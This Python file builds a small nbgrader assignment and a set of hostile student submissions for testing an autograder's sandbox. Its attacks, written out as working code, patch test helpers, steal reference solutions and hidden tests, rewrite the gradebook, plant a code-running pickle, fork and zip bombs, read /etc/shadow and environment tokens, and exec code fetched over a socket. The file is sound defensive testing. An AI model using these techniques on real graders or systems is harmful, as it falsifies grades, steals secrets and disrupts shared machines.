"""A one-notebook test assignment for the attack corpus, and the attacks on it.

The assignment keeps only the exercise cells of `02_normalization` (channel_stats and normalize, 6
points in four graded cells) behind a light import cell, so a submission grades in seconds. Each
attack fills its solution cells with hostile code (or edits the notebook) and says which graded
cells it may keep: `earns` lists the cells whose points are deserved (the untouched, correct part of
the submission); every other cell must score 0 with a message containing `reason`.

Attacks that need to know the grading paths get them formatted in (`{gradebook}`, `{victim}`,
`{port}`, ...): the worst case, an attacker who knows the layout.
"""
from pathlib import Path

import nbformat

from autograder.config import ASSIGNMENT, REPO_ROOT

NOTEBOOK = "00_attack_target"
KEEP = ["channel_stats_solution", "channel_stats_values", "channel_stats_errors",
        "normalize_solution", "normalize_values", "normalize_errors"]
IMPORTS = ("import torch\n\nfrom workbook.checks import expect_close, expect_equal, expect_raises\n"
           "from workbook.recording import record, record_value")
CHANNEL_STATS = ["channel_stats_values", "channel_stats_errors"]
NORMALIZE = ["normalize_values", "normalize_errors"]
ALL_CELLS = CHANNEL_STATS + NORMALIZE


def write_source(source_root: Path) -> Path:
    """Write the small assignment's master notebook under `source_root/<assignment>/`."""
    master = nbformat.read(REPO_ROOT / "source" / ASSIGNMENT / "02_normalization.ipynb", as_version=4)
    by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in master.cells}
    cells = [nbformat.v4.new_code_cell(IMPORTS)] + [by_id[g] for g in KEEP]
    for cell in cells:  # the master's recorded run times stay: they set the time limits
        cell.outputs, cell.execution_count = [], None
    nb = nbformat.v4.new_notebook(cells=cells, metadata=master.metadata)
    folder = source_root / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / f"{NOTEBOOK}.ipynb")
    return folder


def reference_solutions(source_root: Path) -> dict[str, str]:
    nb = nbformat.read(source_root / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: c.source for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("solution")}


WRONG_STATS = "def channel_stats(x):\n    return torch.zeros(3), torch.ones(3)"



def _stolen_solution(paths: str) -> str:
    """Code that reads the notebooks at `paths` (a list expression, formatted later) and runs the first
    `channel_stats` solution it finds there, or a wrong one when every read is denied."""
    return ("import glob, json, pathlib\nsolution = None\n"
            f"for path in {paths}:\n"
            "    try:\n        text = pathlib.Path(path).read_text(errors='replace')\n"
            "    except Exception as e:\n        print('denied', path, type(e).__name__)\n        continue\n"
            "    for cell in json.loads(text)['cells']:\n"
            "        if 'def channel_stats' in ''.join(cell['source']):\n            solution = ''.join(cell['source'])\n"
            "exec(solution or " + repr(WRONG_STATS) + ")")


ATTACKS = {
    "patch_checks": {
        "what": "patches assert helpers, torch.allclose, torch.testing, numpy testing and the visible checks",
        "fills": {"channel_stats_solution": (
            "import builtins, numpy.testing, torch.testing\nimport workbook.checks as checks\n"
            "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
            "torch.testing.assert_close = lambda *a, **k: None\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
            "checks.expect_close = checks.expect_raises = checks.expect_equal = lambda *a, **k: None\n"
            "globals().update(expect_close=checks.expect_close, expect_raises=checks.expect_raises)\n"
            + WRONG_STATS)},
        "earns": NORMALIZE, "reason": "expected",
    },
    "always_equal": {
        "what": "returns objects whose __eq__ is always true",
        "fills": {"channel_stats_solution": (
            "class AlwaysEqual(torch.Tensor):\n    def __eq__(self, other): return True\n"
            "    def __ne__(self, other): return False\n"
            "class Anything:\n    def __eq__(self, other): return True\n"
            "def channel_stats(x):\n    return Anything(), torch.zeros(3).as_subclass(AlwaysEqual)")},
        "earns": NORMALIZE, "reason": "",
    },
    "import_reference": {
        "what": "imports the reference solution, or loads it by file path",
        "fills": {"channel_stats_solution": (
            "try:\n    from autograder.reference.normalization import channel_stats\nexcept Exception:\n"
            "    import importlib.util, pathlib, workbook\n"
            "    path = pathlib.Path(workbook.__file__).resolve().parents[1] / 'autograder' / 'reference' / 'normalization.py'\n"
            "    spec = importlib.util.spec_from_file_location('stolen', path)\n"
            "    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n"
            "    channel_stats = module.channel_stats")},
        "earns": NORMALIZE, "reason": "received nothing",
    },
    "read_hidden_tests": {
        "what": "reads the master notebook, the gradebook (which stores hidden tests) and the reference from disk",
        "fills": {"channel_stats_solution": _stolen_solution("[{source!r}, {gradebook!r}, {repo_source!r}]")},
        "earns": NORMALIZE, "reason": "expected",
    },
    "write_gradebook": {
        "what": "writes full marks into the gradebook and overwrites another student's submission",
        "fills": {"channel_stats_solution": (
            "import sqlite3, pathlib\n"
            "for target, action in [({gradebook_db!r}, 'db'), ({victim!r}, 'file'), ({victim_copy!r}, 'file')]:\n"
            "    try:\n"
            "        if action == 'db':\n"
            "            con = sqlite3.connect(target)\n"
            "            con.execute('UPDATE grade SET auto_score = 100')\n            con.commit()\n"
            "        else:\n            pathlib.Path(target).write_text('{{}}')\n"
            "        print('wrote', target)\n"
            "    except Exception as e:\n        print('denied', target, type(e).__name__)\n" + WRONG_STATS)},
        "earns": NORMALIZE, "reason": "expected",
    },
    "patch_recorder": {
        "what": "replaces the recorder so it saves forged results",
        "fills": {"channel_stats_solution": (
            "import workbook.recording as recording, workbook.recording_format as fmt\n"
            "def forged(grade_id, fn):\n"
            "    folder = recording.grading_dir()\n"
            "    cases = torch.load(folder / 'inputs' / f'{{grade_id}}.pt', weights_only=True)['cases']\n"
            "    fake = {{'ok': True, 'value': fmt.encode_value((torch.zeros(3), torch.ones(3))), 'after': None}}\n"
            "    recording._write(grade_id, {{'grade_id': grade_id, 'results': [fake] * len(cases)}}, folder)\n"
            "    return len(cases)\n"
            "recording.record = forged\nrecord = forged\nrecording.call_case = lambda fn, case, device: {{'ok': True}}\n"
            + WRONG_STATS)},
        "earns": [], "reason": "expected",  # the forged recorder also records normalize: the student's own loss
    },
    "fake_recordings": {
        "what": "writes recording files directly (forged, malformed, and a pickle that runs code) and skips the recorder",
        "fills": {"channel_stats_solution": (
            "import os, pickle, workbook.recording as recording, workbook.recording_format as fmt\n"
            "out = recording.grading_dir() / 'outputs'\nout.mkdir(parents=True, exist_ok=True)\n"
            "fake = {{'ok': True, 'value': fmt.encode_value((torch.zeros(3), torch.ones(3))), 'after': None}}\n"
            "torch.save({{'results': [fake] * 64}}, out / 'channel_stats_values.pt')\n"
            "class Evil:\n    def __reduce__(self):\n        return (os.system, ('touch /tmp/pwned',))\n"
            "(out / 'channel_stats_errors.pt').write_bytes(pickle.dumps({{'results': [Evil()]}}))\n"
            "channel_stats = None  # the visible checks fail, so the recorder never overwrites the forgeries")},
        "earns": NORMALIZE, "reason": "forged",
    },
    "edit_test_cells": {
        "what": "edits the locked test cells so they record a perfect answer (nbgrader restores them from the gradebook)",
        "fills": {"channel_stats_solution": WRONG_STATS,
                  "channel_stats_values": "record_value('channel_stats_values', 'passed')",
                  "channel_stats_errors": "pass"},
        "earns": NORMALIZE, "reason": "expected",
    },
    "delete_test_cells": {
        "what": "deletes the graded test cells of channel_stats",
        "delete": ["channel_stats_values", "channel_stats_errors"],
        "fills": {"channel_stats_solution": WRONG_STATS},
        "earns": NORMALIZE, "reason": "",
    },
    "infinite_loop": {
        "what": "loops forever in a solution cell",
        "fills": {"channel_stats_solution": "while True:\n    pass"},
        "earns": NORMALIZE, "reason": "CellTimeoutError",
    },
    "memory_bomb": {
        "what": "allocates far more memory than the limit",
        "fills": {"channel_stats_solution": "hoard = []\nwhile True:\n    hoard.append(bytearray(2**28))"},
        "earns": NORMALIZE, "reason": "MemoryError",
    },
    "fork_bomb": {
        "what": "forks until the machine runs out of processes",
        "fills": {"channel_stats_solution": (
            "import os, time\nfor _ in range(100000):\n    try:\n        os.fork()\n"
            "    except OSError:\n        time.sleep(0.05)")},
        "earns": [], "reason": "fork bomb",
    },
    "kill_kernel": {
        "what": "kills its own kernel after a correct first exercise (the remaining tests must not pass: nbgrader #427)",
        "fills": {"normalize_solution": "import os\nos._exit(0)"},
        "earns": CHANNEL_STATS, "reason": "kernel died",
    },
    "output_flood": {
        "what": "prints without end",
        "fills": {"channel_stats_solution": "while True:\n    print('spam ' * 2000)"},
        "earns": NORMALIZE, "reason": "",
    },
    "network": {
        "what": "downloads a correct solution from a server on the grading machine",
        "fills": {"channel_stats_solution": (
            "import socket\ntry:\n    with socket.create_connection(('127.0.0.1', {port}), timeout=3) as s:\n"
            "        exec(s.makefile().read())\nexcept OSError as e:\n    print('no network:', type(e).__name__)\n"
            "    " + WRONG_STATS.replace("\n", "\n    "))},
        "earns": NORMALIZE, "reason": "expected",
    },
    "recording_bomb": {
        "what": "writes recordings whose zip entries inflate from a few hundred KiB to 128 MiB each (a zip bomb)",
        "fills": {"channel_stats_solution": (
            "import io, zipfile, workbook.recording as recording\n"
            "out = recording.grading_dir() / 'outputs'\nout.mkdir(parents=True, exist_ok=True)\n"
            "for grade_id in ['channel_stats_values', 'channel_stats_errors']:\n"
            "    plain = io.BytesIO()\n    torch.save({{'grade_id': grade_id, 'results': []}}, plain)\n"
            "    source = zipfile.ZipFile(plain)\n"
            "    with zipfile.ZipFile(out / f'{{grade_id}}.pt', 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:\n"
            "        for info in source.infolist():\n            bomb.writestr(info.filename, source.read(info.filename))\n"
            "        with bomb.open('archive/data/99', 'w') as entry:\n"
            "            for _ in range(8):\n                entry.write(bytes(2**24))\n"
            "channel_stats = None  # the visible checks fail, so the recorder never overwrites the bombs")},
        "earns": NORMALIZE, "reason": "inflates to",
    },
    "tamper_metadata": {
        "what": "marks a test cell grade: false with 0 points and adds a graded cell worth 100 points",
        "fills": {"channel_stats_solution": WRONG_STATS},
        "metadata": {"channel_stats_values": {"grade": False, "points": 0}},
        "extra_cells": [{"grade_id": "bonus", "points": 100, "source": "print('free points')"}],
        "earns": NORMALIZE, "reason": "expected",
    },
    "huge_file": {
        "what": "writes a huge file into its folder and /tmp, then solves the exercise correctly",
        "fills": {"channel_stats_solution": (
            "for path in ['huge.bin', '/tmp/huge.bin']:\n    try:\n        with open(path, 'wb') as f:\n"
            "            for _ in range(64):\n                f.write(b'0' * 2**26)\n"
            "    except OSError as e:\n        print('refused', path, e)\n{reference_channel_stats}")},
        "earns": ALL_CELLS, "reason": "",
    },
    "read_other_run": {
        "what": "copies a correct solution from another grading run's submitted/ folder on the same machine",
        "fills": {"channel_stats_solution": _stolen_solution("[{other_run!r}, *glob.glob({other_glob!r})]")},
        "earns": NORMALIZE, "reason": "expected",
    },
    "write_outside": {
        "what": "writes files outside its sandbox: beside the grading folders, into /tmp and the grader's home",
        "fills": {"channel_stats_solution": (
            "import pathlib\n"
            "for path in [{outside!r}, '/tmp/pwned-outside', {home_marker!r}, '/etc/pwned', '/opt/pwned']:\n"
            "    try:\n        pathlib.Path(path).write_text('escaped')\n        print('wrote', path)\n"
            "    except Exception as e:\n        print('denied', path, type(e).__name__)\n" + WRONG_STATS)},
        "earns": NORMALIZE, "reason": "expected",
    },
    "read_home_and_shadow": {
        "what": "reads the grader's home, /etc/shadow and /etc/passwd and prints them into its feedback",
        "fills": {"channel_stats_solution": (
            "import os, pathlib\n"
            "for path in [{home!r}, '/root', '/home']:\n"
            "    try:\n        print('listed', path, os.listdir(path))\n"
            "    except Exception as e:\n        print('denied', path, type(e).__name__)\n"
            "for path in ['/etc/shadow', '/etc/passwd']:\n"
            "    try:\n        print(pathlib.Path(path).read_text())\n"
            "    except Exception as e:\n        print('denied', path, type(e).__name__)\n" + WRONG_STATS)},
        "earns": NORMALIZE, "reason": "expected",
    },
    "environment_token": {
        "what": "prints the grader's environment (which holds a token) into its feedback",
        "fills": {"channel_stats_solution": (
            "import os\nprint(dict(os.environ))\n"
            "for pid in os.listdir('/proc'):\n"
            "    try:\n        print(pid, open(f'/proc/{{pid}}/environ').read())\n"
            "    except Exception as e:\n        print('denied', pid, type(e).__name__)\n" + WRONG_STATS)},
        "earns": NORMALIZE, "reason": "expected",
    },
    "mountinfo_paths": {
        "what": "reads /proc (mountinfo, command lines, links) for the grading folders' host paths and opens them",
        "fills": {"channel_stats_solution": (
            "import os, re, pathlib\nseen = open('/proc/self/mountinfo').read() + open('/proc/self/mounts').read()\n"
            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    for name in ('cmdline', 'environ'):\n"
            "        try:\n            seen += open(f'/proc/{{pid}}/{{name}}').read().replace(chr(0), ' ')\n"
            "        except OSError:\n            pass\n"
            "    for link in ('cwd', 'root', 'exe', *[f'fd/{{n}}' for n in range(64)]):\n"
            "        try:\n            seen += ' ' + os.readlink(f'/proc/{{pid}}/{{link}}')\n"
            "        except OSError:\n            pass\n"
            "print(seen)\n"
            "for path in set(re.findall(r'/[^\\s]*(?:grading|submitted|submissions)[^\\s]*', seen)):\n"
            "    try:\n        print('opened', path, os.listdir(path))\n"
            "    except Exception as e:\n        print('denied', path, type(e).__name__)\n" + WRONG_STATS)},
        "earns": NORMALIZE, "reason": "expected",
    },
    "sleep_under_limit": {
        "what": "sleeps just under the cell limit in every graded call (a correct solution otherwise)",
        "fills": {"channel_stats_solution": "import time\n{reference_channel_stats}\n_honest_stats = channel_stats\n"
                                            "def channel_stats(x):\n    time.sleep({sleep})\n    return _honest_stats(x)",
                  "normalize_solution": "import time\n{reference_normalize}\n_honest_normalize = normalize\n"
                                        "def normalize(*args, **kwargs):\n    time.sleep({sleep})\n"
                                        "    return _honest_normalize(*args, **kwargs)"},
        "earns": [], "reason": "CellTimeoutError",
    },
}


# Attacks that run until a limit stops them (each holds a grading job for tens of seconds, mostly waiting): their
# folders sort first, and a class grades in folder order, so the other submissions grade meanwhile.
RUN_TO_A_LIMIT = ("sleep_under_limit", "fork_bomb", "infinite_loop")


def student(name: str) -> str:
    """The student folder of attack `name`."""
    return f"attack_{0 if name in RUN_TO_A_LIMIT else 1}_{name}"


def write_submissions(release: Path, source_root: Path, dest: Path, paths: dict[str, str],
                      attacks: tuple[str, ...] | None = None) -> list[str]:
    """Write the reference (also the victim of the attacks on other submissions), the blank release and every
    attack (or only those named in `attacks`) as student folders under `dest`."""
    solutions = reference_solutions(source_root)
    values = {**paths, "reference_channel_stats": solutions["channel_stats_solution"],
              "reference_normalize": solutions["normalize_solution"]}

    def write(student: str, fills: dict[str, str], delete=(), reference: bool = True, metadata=None, extra_cells=()):
        nb = nbformat.read(release / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
        answers = {**(solutions if reference else {}), **fills}
        cells = []
        for cell in nb.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in delete:
                continue
            if grade_id in answers:
                cell.source = answers[grade_id]
            cell.metadata.get("nbgrader", {}).update((metadata or {}).get(grade_id, {}))
            cells.append(cell)
        for extra in extra_cells:  # a graded cell of the student's own, with nbgrader metadata like the release's
            cells.append(nbformat.v4.new_code_cell(extra["source"], metadata={"nbgrader": {
                "grade": True, "grade_id": extra["grade_id"], "locked": True, "points": extra["points"],
                "schema_version": 3, "solution": False, "task": False}}))
        nb.cells = cells
        (dest / student).mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, dest / student / f"{NOTEBOOK}.ipynb")

    write("reference", {})
    write("blank", {}, reference=False)
    for name, attack in ATTACKS.items():
        if attacks is not None and name not in attacks:
            continue
        write(student(name), {k: v.format(**values) for k, v in attack["fills"].items()}, attack.get("delete", ()),
              metadata=attack.get("metadata"), extra_cells=attack.get("extra_cells", ()))
    return sorted(p.name for p in dest.iterdir())
